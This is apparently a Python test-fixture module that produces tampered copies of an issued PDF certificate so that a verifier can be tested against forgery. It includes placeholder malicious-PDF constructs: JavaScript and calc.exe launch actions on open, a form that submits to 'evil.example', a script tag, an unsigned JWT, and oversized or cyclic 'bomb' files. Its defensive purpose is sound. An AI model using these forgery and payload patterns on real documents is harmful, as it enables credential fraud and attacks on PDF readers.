"""A hundred ways to change a file that was issued, each with what somebody might hope to gain from it.

``altered(data)`` gives (what was done, the bytes). None of them is the issued file, and none of them may pass for it.
"""

import re
import zipfile
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Kind = tuple[str, bytes]


def altered(data: bytes) -> Iterator[Kind]:
    """Every kind, from one genuine file."""
    for family in (cut, padded, bytes_changed, rewritten, resaved, appended, appended_by_hand, other_files):
        yield from family(data)


def cut(data: bytes) -> Iterator[Kind]:
    """Truncated, at the end, inside, at the beginning."""
    for left in (1, 2, 5, 6, 20, 100, 1000):
        yield f"without its last {left} bytes", data[:-left]
    for share in (10, 25, 50, 75, 90):
        yield f"its first {share} per cent", data[:len(data) * share // 100]
    for gone in (1, 8, 100):
        yield f"without its first {gone} bytes", data[gone:]
    middle = len(data) // 2
    yield "without a byte in the middle", data[:middle] + data[middle + 1:]
    yield "without a kilobyte in the middle", data[:middle] + data[middle + 1024:]


def padded(data: bytes) -> Iterator[Kind]:
    """Something before, behind or both."""
    for name, more in (("a line break", b"\n"), ("a blank", b" "), ("a zero", b"\0"), ("a comment", b"% hola\n"),
                       ("a kilobyte of zeros", b"\0" * 1024), ("words", b"Nota: 40 horas\n"), ("an end", b"%%EOF\n"),
                       ("a script", b"<script>alert(1)</script>"), ("a table that says nothing", b"startxref\n0\n%%EOF\n")):
        yield f"{name} behind it", data + more
    for name, more in (("a line break", b"\n"), ("a byte order mark", b"\xef\xbb\xbf"), ("a picture's head", b"\x89PNG\r\n\x1a\n"),
                       ("a web page", b"<html><body>hola</body></html>\n")):
        yield f"{name} before it", more + data
    yield "twice", data + data
    other = _blank("Otra persona")
    yield "another file behind it", data + other
    yield "behind another file", other + data
    yield "between two others", other + data + other


def bytes_changed(data: bytes) -> Iterator[Kind]:
    """One byte, wherever it stands."""
    for share in range(2, 100, 9):
        at = len(data) * share // 100
        yield f"another byte at {share} per cent", data[:at] + bytes([data[at] ^ 1]) + data[at + 1:]
    yield "another version", data.replace(b"%PDF-1.7", b"%PDF-1.4", 1)
    yield "line breaks of another system", data.replace(b"\n", b"\r\n")
    yield "without what is not ASCII", bytes(sign for sign in data if sign < 128)
    yield "as text of another encoding", data.decode("latin-1").encode()
    yield "upside down", data[::-1]


def rewritten(data: bytes) -> Iterator[Kind]:
    """Opened in an editor, changed, written anew."""
    changes: dict[str, Callable[[pikepdf.Pdf], None]] = {
        "a name drawn over it": lambda pdf: _draw(pdf, "Otra Persona"),
        "other hours drawn over them": lambda pdf: _draw(pdf, "120 horas"),
        "another date drawn over it": lambda pdf: _draw(pdf, "1 de enero de 2031"),
        "the text of the page cut out": _forget_text, "nothing left on the page": _empty,
        "the numbers in the page changed": _other_numbers, "another title": lambda pdf: _info(pdf, "/Title", "Otro"),
        "another author": lambda pdf: _info(pdf, "/Author", "Otra institución"), "without metadata": _no_metadata,
        "without attachments": _no_attachments, "another datos.json": lambda pdf: _attach(pdf, "datos.json", b'{"hours": 120}'),
        "another credential": lambda pdf: _attach(pdf, "credencial.jwt", b"eyJhbGciOiJub25lIn0.e30."),
        "one attachment more": lambda pdf: _attach(pdf, "notas.xml", b"<a/>"),
        "a page more": lambda pdf: pdf.add_blank_page() and None, "the page twice": lambda pdf: pdf.pages.append(pdf.pages[0]),
        "turned": lambda pdf: pdf.pages[0].rotate(90, relative=True), "cropped": _crop,
        "a link over it": lambda pdf: _annotate(pdf, _link()), "a note over it": lambda pdf: _annotate(pdf, _note()),
        "a script at opening": _script, "a program at opening": _launch, "a page that sends its form": _submit,
        "without tags": _untagged, "in another language": lambda pdf: setattr(pdf.Root, "Lang", String("en")),
        "a layer that hides": _layer}
    for name, change in changes.items():
        with pikepdf.open(BytesIO(data)) as pdf:
            change(pdf)
            yield name, _saved(pdf)


def resaved(data: bytes) -> Iterator[Kind]:
    """Written anew without any change, as readers and scanners of mail do."""
    ways: dict[str, dict[str, object]] = {
        "saved again": {}, "compressed anew": {"recompress_flate": True}, "linearized": {"linearize": True},
        "without object streams": {"object_stream_mode": pikepdf.ObjectStreamMode.disable},
        "all in object streams": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
        "uncompressed": {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.generalized},
        "for reading as text": {"qdf": True}, "with the same identity": {"static_id": True},
        "locked": {"encryption": pikepdf.Encryption(owner="a", user="b")},
        "locked for printing only": {"encryption": pikepdf.Encryption(owner="a", user="")}}
    for name, way in ways.items():
        with pikepdf.open(BytesIO(data)) as pdf:
            yield name, _saved(pdf, **way)


def appended(data: bytes) -> Iterator[Kind]:
    """Changed behind the issued bytes, which stay as they are: an incremental update that no signature covers."""
    def page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
        found: generic.DictionaryObject = writer.root["/Pages"]["/Kids"][0]
        return found

    def text(writer: IncrementalPdfFileWriter) -> None:
        stream = writer.add_object(generic.StreamObject(stream_data=b"BT /F1 40 Tf 100 300 Td (120 horas) Tj ET"))
        one = page(writer)
        before = one.raw_get("/Contents")
        one["/Contents"] = generic.ArrayObject([before, stream])
        writer.update_container(one)

    def annotation(entries: dict[str, object]) -> Callable[[IncrementalPdfFileWriter], None]:
        def work(writer: IncrementalPdfFileWriter) -> None:
            made = generic.DictionaryObject({generic.pdf_name(key): value for key, value in entries.items()})
            one = page(writer)
            one["/Annots"] = generic.ArrayObject([writer.add_object(made)])
            writer.update_container(one)
        return work

    def root(key: str, value: Callable[[], generic.PdfObject]) -> Callable[[IncrementalPdfFileWriter], None]:
        def work(writer: IncrementalPdfFileWriter) -> None:
            writer.root[key] = value()
            writer.update_root()
        return work

    name, string, numbers = generic.pdf_name, generic.pdf_string, generic.ArrayObject
    box = numbers(map(generic.NumberObject, (0, 0, 600, 400)))
    action = {"/S": name("/JavaScript"), "/JS": string("app.alert(1)")}
    launch = {"/S": name("/Launch"), "/F": string("calc.exe")}
    works: dict[str, Callable[[IncrementalPdfFileWriter], None]] = {
        "text added behind": text, "nothing added behind": lambda writer: writer.update_root(),
        "a free text added behind": annotation({
            "/Subtype": name("/FreeText"), "/Rect": box, "/Contents": string("120 horas"), "/DA": string("/F1 20 Tf")}),
        "a link added behind": annotation({"/Subtype": name("/Link"), "/Rect": box}),
        "a stamp added behind": annotation({"/Subtype": name("/Stamp"), "/Rect": box}),
        "a field added behind": annotation({"/Subtype": name("/Widget"), "/FT": name("/Tx"), "/Rect": box, "/T": string("a"),
                                            "/V": string("120 horas")}),
        "a script added behind": root("/OpenAction", lambda: _dictionary(action)),
        "a program added behind": root("/OpenAction", lambda: _dictionary(launch)),
        "names added behind": root("/Names", lambda: _dictionary({})),
        "pages changed behind": root("/Pages", lambda: _dictionary({"/Type": name("/Pages"), "/Kids": numbers([]),
                                                                    "/Count": generic.NumberObject(0)})),
        "a title added behind": lambda writer: writer.set_info(_dictionary({"/Title": string("Otro")})) and None,
        "other metadata behind": _other_metadata,
        "a language added behind": root("/Lang", lambda: string("en")),
        "a layer added behind": root("/OCProperties", lambda: _dictionary({})),
        "a form added behind": root("/AcroForm", lambda: _dictionary({"/Fields": numbers([])})),
        "collected behind": root("/Collection", lambda: _dictionary({})),
    }
    for what, work in works.items():
        writer = IncrementalPdfFileWriter(BytesIO(data))
        work(writer)
        out = BytesIO()
        writer.write(out)
        yield what, out.getvalue()


def appended_by_hand(data: bytes) -> Iterator[Kind]:
    """Updates as no program writes them."""
    start = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    yield "a second table of the same objects", data + b"\nstartxref\n%d\n%%%%EOF\n" % start
    yield "a table that points into the void", data + b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Prev %d >>\n" \
                                                     b"startxref\n%d\n%%%%EOF\n" % (start, len(data) + 1)
    yield "a trailer with another root", data + b"\nxref\n0 0\ntrailer\n<< /Size 9 /Root 99 0 R /Prev %d >>\nstartxref\n%d\n" \
                                                b"%%%%EOF\n" % (start, len(data) + 1)
    yield "a table that is its own past", data + b"\nxref\n0 0\ntrailer\n<< /Size 9 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n" \
                                                 b"%%%%EOF\n" % (len(data) + 1, len(data) + 1)
    yield "a signature that is none", data + b"\n900 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached " \
                                             b"/ByteRange [0 10 20 10] /Contents <00> >>\nendobj\nstartxref\n0\n%%EOF\n"
    yield "a thousand ends", data + b"%%EOF\n" * 1000


def other_files(data: bytes) -> Iterator[Kind]:
    """No PDF of ours, or none at all."""
    picture, packed = BytesIO(), BytesIO()
    Image.new("RGB", (60, 40), "white").save(picture, "PNG")
    yield "a picture", picture.getvalue()
    picture = BytesIO()
    Image.new("RGB", (60, 40), "white").save(picture, "JPEG")
    yield "a photo", picture.getvalue()
    with zipfile.ZipFile(packed, "w") as box:
        box.writestr("certificado.pdf", data)
    yield "packed", packed.getvalue()
    yield "squeezed", zlib.compress(data)
    yield "only the head of a PDF", b"%PDF-1.7\n"
    yield "head and end", b"%PDF-1.7\n%%EOF\n"
    yield "zeros", bytes(len(data))
    yield "another PDF", _blank("Otra persona")
    yield "a PDF with a bomb", _bomb()
    yield "a PDF that goes round in circles", _circle()
    yield "its hash as text", b"9f3c71ab02de5548" * 4
    yield "a web page", b"<!doctype html><title>Certificado</title>"
    yield "brackets", b"[" * 100_000
    yield "deep dictionaries", b"%PDF-1.7\n1 0 obj\n" + b"<</A" * 50_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def _other_metadata(writer: IncrementalPdfFileWriter) -> None:
    packet = generic.StreamObject(stream_data=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>")
    writer._update_meta = lambda: None  # otherwise it writes its own after this
    writer.root["/Metadata"] = writer.add_object(packet)
    writer.update_root()


def _dictionary(entries: dict[str, object]) -> generic.DictionaryObject:
    return generic.DictionaryObject({generic.pdf_name(key): value for key, value in entries.items()})


def _saved(pdf: pikepdf.Pdf, **way: object) -> bytes:
    out = BytesIO()
    pdf.save(out, **way)  # type: ignore[arg-type]  # as pikepdf takes them
    return out.getvalue()


def _blank(title: str) -> bytes:
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.docinfo["/Title"] = String(title)
        return _saved(pdf)


def _draw(pdf: pikepdf.Pdf, words: str) -> None:
    pdf.pages[0].contents_add(f"BT /F1 40 Tf 100 300 Td ({words}) Tj ET".encode())


def _content(pdf: pikepdf.Pdf) -> bytes:
    pdf.pages[0].contents_coalesce()
    return bytes(pdf.pages[0].Contents.read_bytes())


def _forget_text(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents = Stream(pdf, re.sub(rb"BT.*?ET", b"", _content(pdf), flags=re.DOTALL))


def _other_numbers(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents = Stream(pdf, _content(pdf).replace(b"1", b"2"))


def _empty(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents = Stream(pdf, b"")


def _info(pdf: pikepdf.Pdf, key: str, value: str) -> None:
    pdf.docinfo[key] = String(value)


def _no_metadata(pdf: pikepdf.Pdf) -> None:
    if Name.Metadata in pdf.Root:
        del pdf.Root.Metadata


def _no_attachments(pdf: pikepdf.Pdf) -> None:
    for key in (Name.Names, Name.AF):
        if key in pdf.Root:
            del pdf.Root[key]


def _attach(pdf: pikepdf.Pdf, name: str, data: bytes) -> None:
    pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, data, filename=name)


def _crop(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].cropbox = Array([0, 0, 200, 200])


def _link() -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 600, 400],
                      A=Dictionary(S=Name.URI, URI=String("https://replica.example.com/v/x")))


def _note() -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.FreeText, Rect=[0, 0, 600, 400], Contents=String("120 horas"))


def _annotate(pdf: pikepdf.Pdf, made: Dictionary) -> None:
    pdf.pages[0].Annots = Array([pdf.make_indirect(made)])


def _script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("calc.exe"))


def _submit(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))


def _untagged(pdf: pikepdf.Pdf) -> None:
    for key in (Name.StructTreeRoot, Name.MarkInfo):
        if key in pdf.Root:
            del pdf.Root[key]


def _layer(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OCProperties = Dictionary(OCGs=Array([]), D=Dictionary())


def _bomb() -> bytes:
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.pages[0].Contents = Stream(pdf, b" " * 60_000_000)
        pdf.attachments["datos.json"] = pikepdf.AttachedFileSpec(pdf, b" " * 60_000_000, filename="datos.json")
        return _saved(pdf)


def _circle() -> bytes:
    return (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 "
            b"/Parent 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 3 >>\nstartxref\n0\n%%EOF\n")
